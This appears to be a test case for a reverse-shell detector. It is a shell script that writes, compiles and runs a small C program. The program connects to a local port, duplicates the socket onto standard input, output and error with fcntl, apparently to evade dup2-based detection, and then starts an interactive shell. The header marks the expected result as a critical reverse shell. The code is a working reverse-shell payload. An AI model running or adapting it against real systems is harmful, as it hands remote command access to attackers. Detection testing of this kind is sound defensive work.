# about: put there with fcntl
# expect: reverse_shell critical
# needs: python3 gcc
peer 4431
cat >a.c <<'END'
#define _GNU_SOURCE
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
#include <stdlib.h>
#include <string.h>
#include <stdio.h>
#include <sched.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <fcntl.h>
static struct sockaddr_in at(int port){struct sockaddr_in a={AF_INET,htons(port)};a.sin_addr.s_addr=htonl(0x7f000001);return a;}
static int call(int port){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a=at(port);connect(s,(void*)&a,sizeof a);return s;}
int main(){int s=call(4431);for(int i=0;i<3;i++){close(i);fcntl(s,F_DUPFD,i);}execl("/bin/sh","sh","-i",NULL);}
END
gcc -w -o a a.c -lpthread
./a || true
done_typing
